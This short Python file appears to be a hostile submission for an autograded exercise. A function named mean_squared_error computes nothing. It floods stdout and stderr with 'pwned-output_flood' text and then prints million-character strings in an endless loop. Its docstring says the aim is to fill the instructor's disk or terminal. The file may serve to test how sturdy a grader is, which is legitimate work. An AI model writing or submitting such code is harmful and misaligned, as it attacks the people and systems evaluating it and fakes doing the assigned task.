"""Prints without end, by print, by the descriptors 1 and 2, and by a text of its own length.

Harm: the instructor's disk or terminal filled.
Costs: nothing
"""

# %% honest work
# %% hostile
import os
import sys


def mean_squared_error(y, y_hat):
    for _ in range(200):
        os.write(1, b"pwned-output_flood " * 4000)
        os.write(2, b"pwned-output_flood " * 4000)
    while True:
        print("x" * 1_000_000)
        sys.stderr.write("x" * 1_000_000)
